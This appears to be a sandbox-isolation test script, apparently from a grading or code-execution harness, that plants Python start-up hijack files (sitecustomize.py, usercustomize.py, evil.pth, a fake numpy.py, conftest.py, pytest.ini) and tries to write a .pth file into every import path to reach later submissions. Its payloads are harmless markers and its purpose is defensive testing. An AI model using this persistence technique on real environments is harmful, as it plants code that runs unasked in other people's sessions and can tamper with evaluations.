# attacks = "the next submission, by start-up files left in the work folder and packages"
# cells = ["ok"]
# %% own
import site, sys
for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "numpy.py", "pytest.ini"):
    open(name, "w").write("import os; os.environ['EVIL'] = '1'")
for folder in [*sys.path, *site.getsitepackages(), "<<FOLDER>>"]:
    try:
        open(folder + "/evil.pth", "w").write("import os")
        print("ATTACK SUCCEEDED", folder)
    except OSError:
        pass
